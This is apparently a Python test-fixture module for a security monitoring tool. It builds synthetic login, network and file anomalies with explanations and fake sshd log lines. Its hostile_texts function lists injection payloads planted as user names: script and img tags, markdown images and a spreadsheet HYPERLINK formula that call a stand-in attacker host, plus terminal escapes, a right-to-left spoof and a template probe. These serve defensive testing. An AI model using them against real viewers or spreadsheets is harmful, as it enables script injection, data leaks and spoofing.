"""Invented anomalies of every kind, with what attackers write into logs among them.

All times hang on `now_us`; everything else is fixed.
"""

from __future__ import annotations

from collections.abc import Mapping, Sequence
from dataclasses import dataclass

from livesec.core.anomaly import Anomaly, EvidenceLine
from livesec.core.clock import US_PER_S, rfc3339
from livesec.core.explanation import Contribution, Explanation, Step
from livesec.core.finding import Scalar
from livesec.core.schema import LOG_TYPES, LogType
from livesec.core.severity import severity_of

MINUTE_US = 60 * US_PER_S
HOUR_US = 60 * MINUTE_US
AUTH = 1
"""The stream that the login anomalies have their lines from."""

HOSTILE_HOST = "203.0.113.66"


def hostile_texts(origin: str = f"http://{HOSTILE_HOST}") -> tuple[str, ...]:
    """What attackers put into user names; each tries to make a browser fetch from `origin`, run code or mislead."""
    return (
        f"![x]({origin}/markdown.png)",
        f'<img src="{origin}/tag.png" onerror="document.title=1">',
        f"<script src={origin}/run.js></script>",
        f"[open]({origin}/link) <iframe src={origin}/frame>",
        "\x1b[2J\x1b[31mroot\x1b[0m\x07",
        "admin\u202egnp.exe\u2066",
        ":material/delete: :red[alert] $\\LaTeX$ {{7*7}}",
        f"=HYPERLINK('{origin}/cell')",
    )


HOSTILE = hostile_texts()


@dataclass(frozen=True)
class Kind:
    """What anomalies of one type look like."""

    type: str
    log_type: LogType
    score: float
    techniques: tuple[str, ...]
    entity_type: str
    description: str
    meaning: str
    usual: str
    step: str


LOGIN, NETWORK, FILES = LOG_TYPES
KINDS = {
    kind.type: kind
    for kind in (
        Kind(
            "bf_fast", LOGIN, 58.0, ("T1110.001",), "src_ip",
            "{attempts} failed logins from {src_ip} in {span_s:.0f} s, last as {user}",
            "One address tries passwords faster than a person types them: automated guessing.",
            "A person who mistypes makes fewer than 5 failures before pausing or succeeding.",
            "journalctl -t sshd --since '1 hour ago' | grep -F {src_ip}",
        ),
        Kind(
            "bf_success", LOGIN, 94.0, ("T1110.001", "T1078"), "src_ip|user",
            "{src_ip} logged in as {user} after {attempts} failures",
            "The address that guessed passwords now holds one that works.",
            "{user} logs in from 3 addresses, all inside.",
            "last -i {user} | head",
        ),
        Kind(
            "impossible_travel", LOGIN, 82.0, ("T1078",), "user",
            "{user} logged in from Brazil 41 minutes after Norway: {speed_kmh:,.0f} km/h",
            "No airliner covers this distance in this time; one of the two logins is somebody else's.",
            "{user} logs in from Norway (214 of 214 logins).",
            "last -i {user} | head -20",
        ),
        Kind(
            "unusual_login_time", LOGIN, 44.0, ("T1078",), "user",
            "{user} logged in at 03:12, never seen before 07:00",
            "An account is used at an hour at which its owner does not work.",
            "{user} logs in between 07:00 and 18:30 (312 logins).",
            "ask {user} whether this was a planned task",
        ),
        Kind(
            "scan_vertical", NETWORK, 63.0, ("T1046",), "src_ip",
            "{src_ip} tried {ports} ports of {dst_ip} in {span_s:.0f} s",
            "One host looks for open services on another.",
            "{src_ip} uses 4 ports of this host.",
            "ss -tn src {dst_ip}",
        ),
        Kind(
            "traffic_spike", NETWORK, 51.0, ("T1048",), "src_ip",
            "{src_ip} sent {bytes_out:,} bytes in an hour, 9 times its usual amount",
            "A host sends far more than it ever did in this hour of the day.",
            "{src_ip} sends a median of 412,000 bytes in this hour (n = 63).",
            "nethogs -t, or the flow log of {src_ip}",
        ),
        Kind(
            "suspicious_port", NETWORK, 36.0, ("T1571",), "src_ip",
            "{src_ip} connected to port 4444 of {dst_ip}",
            "The port is a default of remote-control tools.",
            "Nobody here uses port 4444.",
            "lsof -i :4444",
        ),
        Kind(
            "data_exfiltration", FILES, 91.0, ("T1048", "T1567"), "user",
            "{user} moved {bytes:,} bytes to cloud_storage",
            "A large amount leaves for a place outside the organisation.",
            "{user} moves a median of 1.2 MB a day to outside places (n = 40).",
            "grep -F {user} data/file_transfer_log.csv | tail",
        ),
        Kind(
            "sensitive_file_access", FILES, 72.0, ("T1552",), "user",
            "{user} read 14 sensitive files within an hour",
            "Files whose names promise secrets are read in bulk.",
            "{user} reads 1 sensitive file a day (n = 88).",
            "ausearch -f /srv/finance -ua {user}",
        ),
    )
}  # fmt: skip


def make_anomaly(
    kind: Kind,
    sequence: int,
    time_us: int,
    *,
    user: str = "ingrid.solberg",
    src_ip: str = "198.51.100.23",
    score: float | None = None,
    evidence: Sequence[EvidenceLine] = (),
    historical: bool = False,
) -> Anomaly:
    """An anomaly of `kind` as the pipeline would make it."""
    details: dict[str, Scalar] = {
        "attempts": 5 + sequence % 40,
        "span_s": 12.5 + sequence % 20,
        "ports": 120 + sequence % 60,
        "bytes": 180_000_000 + sequence * 1_000,
        "bytes_out": 3_800_000 + sequence * 500,
        "speed_kmh": 14_210.0,
        "user_as_logged": user,
    }
    values: Mapping[str, object] = details | {"user": user, "src_ip": src_ip, "dst_ip": "192.0.2.10"}
    scored = kind.score if score is None else score
    description = kind.description.format_map(values)
    explanation = Explanation(
        headline=description,
        what_happened=f"{description}. {kind.meaning}",
        usual=kind.usual.format_map(values),
        why_score=(
            Contribution("base severity", kind.score / 10),
            Contribution("asset weight", (scored - kind.score) / 10),
        ),
        alternatives=("a script with an old password", "a scan of your own"),
        would_change=("a success right after it would make it a break-in",),
        next_steps=(
            Step(kind.step.format_map(values)),
            Step("If nobody here can explain it: close the session and keep the logs."),
        ),
        techniques=kind.techniques,
    )
    entity = {"user": user, "src_ip": src_ip, "src_ip|user": f"{src_ip}|{user}"}[kind.entity_type]
    return Anomaly(
        id=f"{sequence:016x}",
        sequence=sequence,
        time_us=time_us,
        type=kind.type,
        log_type=kind.log_type,
        severity=severity_of(scored),
        score=scored,
        entity_type=kind.entity_type,
        entity=entity,
        user=user,
        src_ip=src_ip,
        dst_ip="192.0.2.10" if kind.log_type is NETWORK else None,
        host="gate1",
        description=description,
        details=details,
        techniques=kind.techniques,
        reason="",
        confidence=1.0,
        explanation=explanation,
        evidence=tuple(evidence),
        historical=historical,
    )


def sshd_lines(offset: int, user: str, src_ip: str, time_us: int, count: int = 5) -> list[EvidenceLine]:
    """`count` lines of failed logins until `time_us`, two seconds apart, one behind the other from `offset`."""
    lines = []
    for number in range(count):
        at = rfc3339(time_us - 2 * (count - 1 - number) * US_PER_S)
        text = (
            f"{at} gate1 sshd[4711]: Failed password for invalid user {user} from {src_ip} port {50100 + number} ssh2"
        )
        line = text.encode("utf-8", "replace")
        lines.append(EvidenceLine(AUTH, offset, len(line), line))
        offset += len(line) + 1
    return lines


PEOPLE = ("ingrid.solberg", "amadou.diallo", "mei.tanaka", "jonas.weber", "svc-backup", "carla.rossi")
SOURCES = ("198.51.100.23", "203.0.113.9", "198.51.100.77", "203.0.113.140", "192.0.2.61")
PATTERN = (
    "bf_fast", "bf_fast", "scan_vertical", "bf_fast", "suspicious_port",
    "bf_fast", "traffic_spike", "unusual_login_time", "bf_fast", "sensitive_file_access",
    "suspicious_port", "bf_fast", "scan_vertical", "impossible_travel", "bf_fast",
    "traffic_spike", "bf_success", "bf_fast", "data_exfiltration", "unusual_login_time",
)  # fmt: skip


def a_weeks_anomalies(now_us: int, hostile: Sequence[str]) -> list[Anomaly]:
    """Sixty anomalies spread unevenly over a week, the last one four minutes old, and one by each hostile user."""
    made = []
    for sequence in range(60):
        hours_ago = 167 * (1 - sequence / 59) ** 1.6 + 4 / 60
        if 20 <= sequence < 32:  # a burst two days ago
            hours_ago = 49 - sequence / 60
        kind = KINDS[PATTERN[sequence % len(PATTERN)]]
        user, src_ip = PEOPLE[sequence % len(PEOPLE)], SOURCES[sequence % len(SOURCES)]
        time_us = now_us - int(hours_ago * HOUR_US)
        made.append(
            make_anomaly(
                kind,
                sequence + 1,
                time_us,
                user=user,
                src_ip=src_ip,
                score=min(99.0, kind.score + sequence % 7 - 3),
                evidence=sshd_lines(sequence * 1000, user, src_ip, time_us) if kind.log_type is LOGIN else (),
                historical=hours_ago > 24,
            )
        )
    for number, text in enumerate(hostile):
        made.append(
            make_anomaly(
                KINDS["bf_fast"],
                61 + number,
                now_us - (4 + number) * MINUTE_US,
                user=text,
                evidence=sshd_lines(100_000 + 2_000 * number, text, SOURCES[0], now_us - (4 + number) * MINUTE_US),
            )
        )
    return made
